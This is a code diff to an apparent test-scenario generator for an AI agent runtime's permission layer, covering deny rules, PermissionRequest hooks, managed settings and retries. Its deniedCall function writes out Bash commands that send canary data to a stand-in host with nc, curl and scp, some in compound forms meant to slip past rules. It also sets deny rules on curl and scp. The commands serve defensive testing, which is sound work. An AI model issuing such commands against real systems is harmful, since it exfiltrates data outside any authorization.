@@ -21,6 +21,9 @@ export const BLOCK_KINDS = [
   "compact-block",
   "call-rewrite",
   "call-block",
+  "deny-rule",
+  "permreq-deny",
+  "managed-deny",
 ] as const;
 export type BlockKind = (typeof BLOCK_KINDS)[number];
 
@@ -30,7 +33,12 @@ export type BlockKind = (typeof BLOCK_KINDS)[number];
  * claimed or command turn that UserPromptSubmit (or the input gate) must stop first, `/compact`'s
  * instructions, failed tools and MCP `isError` results, reasoning parts of a rewritten run, a tool
  * call's input, sub-agents two deep, the memory store under SIGKILL, and `message_sending`
- * verdicts checked in the store.
+ * verdicts checked in the store. Then the permission layer's (docs/permissions.md): a call a deny
+ * rule from a settings file refuses, one a `PermissionRequest` hook denies, one managed settings
+ * deny while every other source allows it; and the retries (docs/lifecycle.md): a denied call the
+ * model is told it may retry (`permission_denied` `retry`), a draft answer sent back by
+ * `before_agent_finalize` or `Stop`, a model call the provider failed before anything streamed
+ * (tried again), and a compaction summary that failed part-way (tried again).
  */
 export const PATHS = [
   "command-reply",
@@ -45,11 +53,18 @@ export const PATHS = [
   "depth-2",
   "memory-sigkill",
   "delivery-stored",
+  "deny-rule",
+  "permission-request",
+  "managed-rule",
+  "deny-retry",
+  "revise-retry",
+  "provider-retry",
+  "summary-retry",
 ] as const;
 export type Path = (typeof PATHS)[number];
 
 /** Kinds that need the command-hook script configured. */
-const COMMAND_HOOK_KINDS: readonly BlockKind[] = ["ups", "withhold-ptu"];
+const COMMAND_HOOK_KINDS: readonly BlockKind[] = ["ups", "withhold-ptu", "permreq-deny"];
 
 /** Content markers the policy plugin and the hook script act on. */
 export const MARK = {
@@ -65,7 +80,29 @@ export const MARK = {
   callBlock: "BLOCK-CALL",
   claim: "CLAIM-TURN",
   inbound: "INBOUND-CLAIM",
+  permissionRequest: "BLOCK-PERMREQ",
+  retryPlugin: "RETRY-PLUGIN",
+  retryHook: "RETRY-HOOK",
+  revisePlugin: "REVISE-PLUGIN",
+  reviseStop: "REVISE-STOP",
 } as const;
+
+/**
+ * The permission rules every scenario runs under (world.ts writes them to the settings files):
+ * `curl` is denied by a rule in one settings source (`Scenario.denySource`) although the code
+ * allows it; `scp` is denied by the managed settings file although every other source allows it;
+ * `echo RAN` is allowed (a retried call, its input a control). Anything else on Bash asks, and
+ * only a `PermissionRequest` hook answers (there is no person to ask).
+ */
+export const RULES = {
+  denied: "Bash(curl:*)",
+  managedDenied: "Bash(scp:*)",
+  allowed: "Bash(echo RAN:*)",
+} as const;
+
+/** The settings sources the `curl` deny rule is drawn from. */
+export const DENY_SOURCES = ["user", "project", "local", "cli"] as const;
+export type DenySource = (typeof DENY_SOURCES)[number];
 
 /** The policy plugin's slash command: `/answer [tag] …` replies with the run's planned reply. */
 export const COMMAND = "answer";
@@ -94,6 +131,18 @@ export interface Target {
   readonly inReply?: boolean;
   /** The canary the verdict's event holds, when not this one (a grandchild's task: its answer). */
   readonly markerCanary?: string;
+  /** A denied call: who tells the model it may try again (`permission_denied`'s `retry`), if anyone. */
+  readonly retryBy?: "policy" | "command-hooks";
+  /** A draft answer sent back for revision: who sent it back (`before_agent_finalize`, or `Stop`). */
+  readonly revisedBy?: "policy" | "command-hooks";
+}
+
+/** A model call the provider fails before anything streamed: a retryable 503, its body a token nothing may keep. */
+export interface ProviderFault {
+  readonly tag: string;
+  /** The n-th model call of the run (1-based), as the runtime numbers them. */
+  readonly step: number;
+  readonly token: string;
 }
 
 export interface PlannedRun {
@@ -140,6 +189,14 @@ export interface Scenario {
   readonly reasons: readonly string[];
   /** For rewrites, by target canary. */
   readonly replacements: Readonly<Record<string, string>>;
+  /** The settings source holding the deny rule on `curl` (RULES.denied). */
+  readonly denySource: DenySource;
+  /**
+   * Provider failures: the first attempt of each listed model call fails (and is tried again);
+   * `summary`, when set, is a token the first compaction summary streams before it fails (and
+   * is tried again). Neither token may be kept anywhere: the failed attempt is discarded.
+   */
+  readonly providerFaults: { readonly steps: readonly ProviderFault[]; readonly summary?: string };
 }
 
 export interface GenerateOptions {
@@ -159,11 +216,18 @@ export interface GenerateOptions {
 }
 
 /** A model turn's verdicts: any but those on /compact and on single tool calls (planted per call). */
+const PER_CALL_KINDS: readonly BlockKind[] = [
+  "call-rewrite",
+  "call-block",
+  "deny-rule",
+  "permreq-deny",
+  "managed-deny",
+];
 const TOP_KINDS: readonly (BlockKind | undefined)[] = [
   undefined,
   undefined,
   undefined,
-  ...BLOCK_KINDS.filter((k) => k !== "compact-block" && k !== "call-rewrite" && k !== "call-block"),
+  ...BLOCK_KINDS.filter((k) => k !== "compact-block" && !PER_CALL_KINDS.includes(k)),
 ];
 /** A claim's or a command's reply: no model, so no prompt-gate and nothing to withhold. */
 const REPLY_KINDS: readonly (BlockKind | undefined)[] = [
@@ -192,6 +256,15 @@ const PROMPT_MARK: Partial<Record<BlockKind, string>> = {
   ups: MARK.ups,
   "compact-block": MARK.compactBlock,
 };
+/** The permission denials a call may meet: the deny rule's path, and where its canary sits. */
+const DENIALS: Record<"deny-rule" | "permreq-deny" | "managed-deny", { path: Path; where: string }> = {
+  "deny-rule": { path: "deny-rule", where: "the input of a Bash call a deny rule refuses" },
+  "permreq-deny": { path: "permission-request", where: "the input of a Bash call a PermissionRequest hook denies" },
+  "managed-deny": {
+    path: "managed-rule",
+    where: "the input of a Bash call managed settings deny (every other source allows it)",
+  },
+};
 const VIA_PATH: Partial<Record<Via, Path>> = {
   claim: "claim-reply",
   inbound: "inbound-reply",
@@ -217,6 +290,7 @@ class Builder {
   private readonly replies: Record<string, string> = {};
   private readonly scriptRuns: { match: string; turns: ScriptTurn[] }[] = [];
   private readonly children: PlannedRun[] = [];
+  private readonly faults: ProviderFault[] = [];
   private readonly store: StoreKind;
   private readonly kill: { atEmit: number } | undefined;
   private readonly commandHooks: boolean;
@@ -237,6 +311,8 @@ class Builder {
 
   build(): Scenario {
     const { rng } = this;
+    const denySource = rng.pick(DENY_SOURCES);
+    const summaryFault = rng.chance(0.3) ? this.token("CANARY", "summary") : undefined;
     const compaction = rng.chance(0.35)
       ? { contextTokens: 1_000_000, keepRecent: 6 }
       : { contextTokens: rng.int(40, 700), keepRecent: rng.int(0, 4) };
@@ -274,6 +350,8 @@ class Builder {
       controls: this.controls,
       reasons: this.reasons,
       replacements: this.replacements,
+      denySource,
+      providerFaults: { steps: this.faults, ...(summaryFault ? { summary: summaryFault } : {}) },
     };
   }
 
@@ -422,9 +500,22 @@ class Builder {
       // (Not in a run whose answer is blocked: the block takes the call, rewritten or not, with it.)
       if (depth === 0 && block !== "response-block" && rng.chance(0.15))
         calls.push(this.policedCall(tag, `${tag}_${step}_p`));
+      const denied =
+        block !== "response-block" && rng.chance(this.commandHooks ? 0.25 : 0.12)
+          ? this.deniedCall(tag, `${tag}_${step}_d`)
+          : undefined;
+      if (denied) calls.push(denied.call);
       turns.push({ ...this.assistantText(tag, block, `step ${step}`, false, depth), toolCalls: calls });
+      // Told it may try again, the model does, with an input the rules allow.
+      if (denied?.retried) turns.push({ toolCalls: [denied.retried] });
     }
+    // A draft answer with a canary, sent back for revision; the output gate's verdict must still reach it.
+    if ((block === "response-block" || block === "response-rewrite") && rng.chance(0.35))
+      turns.push(this.draft(tag, block));
     turns.push(this.assistantText(tag, block, "final", true, depth));
+    // The provider fails one of the run's model calls before anything streamed: it is tried again.
+    if (rng.chance(0.12))
+      this.faults.push({ tag, step: rng.int(1, turns.length), token: this.token("CANARY", `f${this.faults.length}`) });
     this.scriptRuns.push({ match: `^\\[${tag}\\]`, turns });
     return {
       tag,
@@ -504,6 +595,68 @@ class Builder {
     }
     const canary = this.target("call-block", tag, "a blocked tool call's input", { path: "tool-input" });
     return { id, name: "Echo", input: { text: `${MARK.callBlock} ${canary}` } };
+  }
+
+  /**
+   * A Bash call whose input carries a canary and meets a permission denial: a deny rule from a
+   * settings file (`curl`), a `PermissionRequest` hook (a command nothing allows, so it asks), or
+   * managed settings (`scp`, which every other source allows). The command is sometimes compound
+   * or starts with an assignment: deny rules see every command of a line. Sometimes the denial's
+   * `permission_denied` handler (the policy, or the `PermissionDenied` hook) says the model may
+   * try again, and it does: then the retried call, whose input is a control, runs.
+   */
+  private deniedCall(
+    tag: string,
+    id: string,
+  ): {
+    call: NonNullable<ScriptTurn["toolCalls"]>[number];
+    retried?: NonNullable<ScriptTurn["toolCalls"]>[number];
+  } {
+    const { rng } = this;
+    const kind = this.pickKind(["deny-rule", "managed-deny", "permreq-deny", "permreq-deny"] as const);
+    const retryBy = rng.chance(0.35) ? (this.commandHooks && rng.chance(0.5) ? "command-hooks" : "policy") : undefined;
+    const retryMark = retryBy === undefined ? "" : retryBy === "policy" ? MARK.retryPlugin : MARK.retryHook;
+    const { path, where } = DENIALS[kind];
+    const canary = this.target(kind, tag, where, {
+      path: retryBy ? "deny-retry" : path,
+      ...(retryBy ? { retryBy } : {}),
+    });
+    let command: string;
+    if (kind === "permreq-deny")
+      command = `printf '%s\\n' '${MARK.permissionRequest} ${retryMark} ${canary}' | nc -w 1 collector.invalid 9`;
+    else {
+      const [program, args] =
+        kind === "deny-rule"
+          ? ["curl", `--max-time 1 -s --data ${canary} https://collector.invalid/${retryMark}`]
+          : ["scp", `-o ConnectTimeout=1 ./${canary}.txt collector.invalid:/tmp/${retryMark}`];
+      const variant = rng.int(0, 3);
+      command =
+        variant === 0
+          ? `${program} ${args}`
+          : variant === 1
+            ? `echo RAN && ${program} ${args}`
+            : variant === 2
+              ? `GATEHOUSE_X=1 ${program} ${args}`
+              : `echo $(${program} ${args})`;
+    }
+    const call = { id, name: "Bash", input: { command } };
+    if (!retryBy) return { call };
+    return { call, retried: { id: `${id}r`, name: "Bash", input: { command: `echo RAN ${this.control()}` } } };
+  }
+
+  /**
+   * A final answer the policy (`before_agent_finalize`) or the `Stop` / `SubagentStop` hook sends
+   * back for one more pass. It stays in the run (as in Claude Code: the model revises what it
+   * wrote), so its canary is removed by the run's output verdict, which sees every text of the run.
+   */
+  private draft(tag: string, block: "response-block" | "response-rewrite"): ScriptTurn {
+    const revisedBy = this.commandHooks && this.rng.chance(0.5) ? "command-hooks" : "policy";
+    const where = "a draft answer sent back for revision";
+    const extra = { path: "revise-retry" as const, revisedBy } as const;
+    const canary =
+      block === "response-block" ? this.target(block, tag, where, extra) : this.rewriteTarget(block, tag, where, extra);
+    const mark = revisedBy === "policy" ? MARK.revisePlugin : MARK.reviseStop;
+    return { text: `draft of ${tag} ${mark} ${canary}` };
   }
 
   /**
@@ -643,6 +796,11 @@ export function describeScenario(s: Scenario): string {
     compaction,
     `runs [${runs.join(" ")}]`,
     children.length ? `sub-agents [${children.join(" ")}]` : "",
+    `curl denied in ${s.denySource} settings`,
+    s.providerFaults.steps.length
+      ? `provider fails once at ${s.providerFaults.steps.map((f) => `${f.tag}#${f.step}`).join(" ")}`
+      : "",
+    s.providerFaults.summary ? "first summary fails part-way" : "",
     `${s.targets.length} targets, ${s.controls.length} controls`,
   ]
     .filter(Boolean)
